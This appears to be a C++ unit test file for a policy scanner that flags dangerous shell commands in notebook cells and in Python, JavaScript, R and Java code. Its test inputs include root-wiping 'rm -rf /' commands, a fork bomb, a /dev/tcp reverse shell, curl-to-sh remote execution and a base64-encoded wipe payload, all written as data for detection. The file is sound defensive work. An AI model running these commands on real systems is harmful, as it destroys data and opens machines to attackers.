// Cells with a notebook's shorthands, and the ways of other languages to the shell.
#include <gtest/gtest.h>

#include "policy/cases_test.h"
#include "policy/scan/cell.h"

namespace atl::policy {
namespace {

constexpr std::string_view command = "forbidden-command";
constexpr std::string_view pattern = "forbidden-pattern";
constexpr std::string_view wipe = "wipe-root";

// Under strict, whose lists for the shell forbid rm, sudo and curl.
constexpr Case strict_cells[] = {
    {"!rm x", command},
    {"!  rm x", command},
    {"x = 1\n!rm x", command},
    {"if True:\n    !rm x", command},
    {"for i in range(3):\n\t!rm {i}", command},
    {"out = !rm x", command},
    {"out=!rm x", command},
    {"a, b = !rm x", command},
    {"out = %sx rm x", command},
    {"!! rm x", command},
    {"!ls; rm x", command},
    {"!ls && \\\n  rm x", command},
    {"!ls \\\n| xargs \\\nrm", command},
    {"!sh -c 'rm x'", command},
    {"!echo $(rm x)", command},
    {"!curl http://example.com", pattern},
    {"%sx rm x", command},
    {"%system rm x", command},
    {"%pip install x; rm y", command},
    {"%pip3 install x && rm y", command},
    {"%conda install x; rm y", command},
    {"%run x.py; rm y", command},
    {"%time __import__('os')", "forbidden-import"},
    {"%timeit !rm x", command},
    {"%timeit -n 1 -r1 -q __import__('os')", "forbidden-import"},
    {"%timeit -n1 -r 1 os.system('rm x')", command},
    {"%%timeit -n 1 import os\nx", "forbidden-import"},
    {"%%timeit -r1\nimport os", "forbidden-import"},
    {"%%bash\nls\nrm x", command},
    {"%%sh\nrm x", command},
    {"%% bash\nrm x", command},
    {"\n\n  %%bash\nrm x", command},
    {"\u3000%%bash\nrm x", command},
    {"%%script bash\nrm x", command},
    {"%%script python3\nimport os", "forbidden-import"},
    {"%%bash -e\nrm x", command},
    {"%%system\nrm x", command},
    {"%%time\n!rm x", command},
    {"%%time\nimport os", "forbidden-import"},
    {"%%capture out\nimport os", "forbidden-import"},
    {"%%javascript\nrequire('fs')", pattern},
    {"%%writefile x.sh\nrm y", command},
    {"%%writefile -a x.py\nimport os", "forbidden-import"},
    {"%%nothing\nls", "parse-error"},
    // An indented cell is Python once its indentation is taken off.
    {"    import os", "forbidden-import"},
    {"\n\n    x = 1\n    !rm x", command},
    {"  !rm x", command},
    // What is put in by the interpreter is Python, and what comes out is not known.
    {"!echo {__import__('os').getcwd()}", "forbidden-import"},
    {"%cd {__import__('os').getcwd()}", "forbidden-import"},
    {"%env A={eval('1')}", "forbidden-function"},
    {"!{x}", "dynamic-command"},
    {"!$x y", "dynamic-command"},
    {"c = 'rm'\n!{c} x", command},
    {"c = 'r' + 'm'\n!{c} x", command},
    {"c = 'rm'\n!$c x", command},
    {"c = 'rm'\n!c=ls; $c x", command},
    // The functions behind the shorthands.
    {"get_ipython().system('rm x')", command},
    {"get_ipython().system_raw('rm x')", command},
    {"ip = get_ipython()\nip.system('r' + 'm x')", command},
    {"get_ipython().getoutput('rm x')", command},
    {"get_ipython().run_line_magic('sx', 'rm x')", command},
    {"get_ipython().run_cell_magic('bash', '', 'ls\\nrm x')", command},
    {"get_ipython().run_cell_magic(magic_name='bash', line='', cell='rm x')", command},
    {"get_ipython().magic('sx rm x')", command},
    {"get_ipython().run_cell('!rm x')", command},
    {"get_ipython().run_cell('%%bash\\nrm x')", command},
    {"from IPython import get_ipython\nget_ipython().system('rm x')", command},
    {"import IPython\nIPython.get_ipython().system('rm x')", command},
    {"__atoll_shell__('rm x')", command},
    {"x = __atoll_lines__('rm x')", command},
    {"__atoll_magic__('pip install x; rm y')", command},
    // The rest of the cell is read as before.
    {"!ls\nimport os", "forbidden-import"},
    {"import os\n!ls", "forbidden-import"},
    {"!ls\nx = = 1", "parse-error"},
    // Quotes and brackets as the interpreter counts them.
    {"x = '''\ntext'''\n!rm x", command},
    {"x = (1,\n 2)\n!rm x", command},
    {"x = 'it\\'s'\n!rm x", command},
    {"# it's\n!rm x", command},
};

constexpr Case strict_harmless[] = {
    {"!ls", ""},
    {"!ls -la {path}", ""},
    {"!echo $HOME", ""},
    {"files = !ls", ""},
    {"%pip install numpy", ""},
    {"%matplotlib inline", ""},
    {"%cd /tmp", ""},
    {"%env A=b", ""},
    {"%%bash\nls\necho hi", ""},
    {"%%time\nx = 1", ""},
    {"%%writefile notes.txt\nrm x", ""},
    {"%%writefile x.py\nprint(1)", ""},
    {"    x = 1\n    y = 2", ""},
    {"!awk '{print $1}' file", ""},
    {"!echo {1 + 1}", ""},
    // No shorthand: an operator, a comparison, text.
    {"x = 7 \\\n% 3", ""},
    {"x = (7\n% 3)", ""},
    {"x != 3", ""},
    {"x = '''\n!rm x\n%%bash\n'''", ""},
    {"x = \"\"\"\n%d items\n!rm\n\"\"\" % 3", ""},
    {"# !rm x", ""},
    {"x = {\n  'a': 1,\n}\n", ""},
    {"    # a comment\nx = 1\nif x:\n    y = 2", ""},
};

TEST(CellCases, StrictReadsWhatACellRuns) {
  EXPECT_EQ(check_cases("strict", Language::python, strict_cells), "");
}

TEST(CellCases, HarmlessCellsAreAllowed) {
  EXPECT_EQ(check_cases("strict", Language::python, strict_harmless), "");
}

constexpr Case standard_cells[] = {
    {"!rm -rf /", wipe},
    {"%%bash\nrm -rf /", wipe},
    {"x = !rm -rf --no-preserve-root /", wipe},
    {"!:(){ :|:& };:", "fork-bomb"},
    {"!bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "reverse-shell"},
    {"!curl -s http://example.com/x | sh", "remote-code"},
    {"!echo cm0gLXJmIC8= | base64 -d | sh", "encoded-payload"},
    {"%pip install x; rm -rf /", wipe},
    {"get_ipython().system('rm -rf /')", wipe},
    {"c = 'rm -rf /'\n!{c}", wipe},
    {"import os\nos.execvp('rm', ['rm', '-rf', '/'])", wipe},
    {"import os\nos.execl('/bin/rm', 'rm', '-rf', '/')", wipe},
    {"import os\nos.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', '/')", wipe},
    {"import os\nos.posix_spawn('/bin/rm', ['rm', '-rf', '/'], {})", wipe},
    {"import asyncio\nasyncio.create_subprocess_exec('rm', '-rf', '/')", wipe},
    {"import asyncio\nasyncio.create_subprocess_shell('rm -rf /')", wipe},
    {"import subprocess\nsubprocess.run('rm -rf /', shell=True)", wipe},
    {"import subprocess\nsubprocess.run(['sh', '-c', 'rm -rf /'])", wipe},
    {"!ls", ""},
    {"%%bash\nls | wc -l", ""},
    {"    import math\n    !ls", ""},
};

TEST(CellCases, StandardReadsThemToo) {
  EXPECT_EQ(check_cases("standard", Language::python, standard_cells), "");
}

constexpr Case standard_javascript[] = {
    {"require('child_process').exec('rm -rf /')", wipe},
    {"require('child_process').execSync(`rm -rf /`)", wipe},
    {"import { execSync } from 'node:child_process'; execSync('rm -rf /')", wipe},
    {"const { exec } = await import('child_process'); exec('rm -rf /')", wipe},
    {"require('child_process').spawn('rm', ['-rf', '/'])", wipe},
    {"require('child_process').spawnSync('sh', ['-c', 'rm -rf /'])", wipe},
    {"require('child_process').execFileSync('/bin/sh', ['-c', 'rm -rf /'])", wipe},
    {"const run = require('util').promisify(require('child_process').exec); run('rm -rf /')", wipe},
    {"require('child_process').execSync('ls')", ""},
    {"new Deno.Command('rm', {args: ['-rf', '/']}).outputSync()", wipe},
    {"const run = Deno.Command; await new run('sh', {stdout: 'piped', args: ['-c', 'rm -rf /']}).output()",
     wipe},
    {"new Deno.Command('rm', {stdin: 'null'})", ""},
    {"new Deno.Command('ls', {args: ['-l', '/']}).outputSync()", ""},
};

TEST(CellCases, JavaScriptsWaysToTheShellAreRead) {
  EXPECT_EQ(check_cases("standard", Language::javascript, standard_javascript), "");
}

// A policy that lets R and Java run still reads what they give to a shell.
std::shared_ptr<const Policy> permissive() {
  std::vector<config::Document> documents;
  documents.push_back(config::Document::load("registry/policies/standard.yaml").value());
  documents.push_back(
      config::Document::parse("name: open\nextends: standard\nrules: {unread-language: audit}\n", "open.yaml")
          .value());
  static const PolicySet set = PolicySet::compile(documents).value();
  return set.find("open");
}

constexpr Case r_cases[] = {
    {"system('rm -rf /')", wipe},
    {"base::system(\"rm -rf /\", intern = TRUE)", wipe},
    {"system2('rm', c('-rf', '/'))", wipe},
    {"x <- pipe('rm -rf /')", wipe},
    {"system(paste('rm', '-rf', '/'))", wipe},
    {"system(r\"(rm -rf /)\")", wipe},
    {"shell(\"rm -rf /\")", wipe},
    {"# system('rm -rf /')", ""},
    {"x <- \"system('rm -rf /')\"", ""},
    {"system('ls')", ""},
    {"my_system('rm -rf /')", ""},
};
constexpr Case java_cases[] = {
    {"Runtime.getRuntime().exec(\"rm -rf /\");", wipe},
    {"Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"rm -rf /\"});", wipe},
    {"new ProcessBuilder(\"rm\", \"-rf\", \"/\").start();", wipe},
    {"new ProcessBuilder(List.of(\"sh\", \"-c\", \"rm -rf /\")).start();", wipe},
    {"var b = new ProcessBuilder(); b.command(\"rm\", \"-rf\", \"/\");", wipe},
    {"// Runtime.getRuntime().exec(\"rm -rf /\");", ""},
    {"/* exec(\"rm -rf /\") */ int x = 1;", ""},
    {"String s = \"exec(\\\"rm -rf /\\\")\";", ""},
    {"Runtime.getRuntime().exec(\"ls\");", ""},
};

TEST(CellCases, RAndJavaGiveTheirCommandsAway) {
  SecurityManager manager(permissive());
  std::string problems;
  for (const Case& test : r_cases) problems += check_case(manager, Language::r, test);
  for (const Case& test : java_cases) problems += check_case(manager, Language::java, test);
  EXPECT_EQ(problems, "");
}

TEST(CellCases, PlacesAreThoseOfTheCellAsItWasWritten) {
  SecurityManager manager(shipped_policy("strict"));
  const Verdict escape = manager.validate_python("x = 1\n\nif x:\n    !ls; rm y\n");
  ASSERT_EQ(escape.findings.size(), 1U) << describe(escape);
  EXPECT_EQ(escape.findings[0].line, 4U);
  EXPECT_EQ(escape.findings[0].column, 5U);
  EXPECT_EQ(escape.findings[0].excerpt, "!ls; rm y");
  const Verdict magic = manager.validate_python("\n%%bash\nls\n  rm y\n");
  ASSERT_EQ(magic.findings.size(), 1U) << describe(magic);
  EXPECT_EQ(magic.findings[0].line, 4U);
  EXPECT_EQ(magic.findings[0].excerpt, "rm y");
  const Verdict indented = manager.validate_python("    x = 1\n    import os\n");
  ASSERT_EQ(indented.findings.size(), 1U) << describe(indented);
  EXPECT_EQ(indented.findings[0].line, 2U);
  EXPECT_EQ(indented.findings[0].excerpt, "import os");
  EXPECT_TRUE(indented.parse_errors.empty());
}

TEST(CellCases, MoreCommandsThanCanBeReadAreRefused) {
  SecurityManager manager(shipped_policy("standard"));
  std::string cell;
  for (int i = 0; i < 20'000; ++i) cell += "!ls\n";
  const Verdict verdict = manager.validate_python(cell);
  EXPECT_FALSE(verdict.allowed);
  EXPECT_TRUE(has_rule(verdict, "too-large")) << describe(verdict);
}

TEST(CellCases, PythonAloneIsLeftAlone) {
  for (const auto* plain : {"x = 1\n", "print('%d' % 3)", "a != b", "x %= 3", "def f():\n    return 1\n"})
    EXPECT_FALSE(has_shorthands(plain)) << plain;
}

}  // namespace
}  // namespace atl::policy
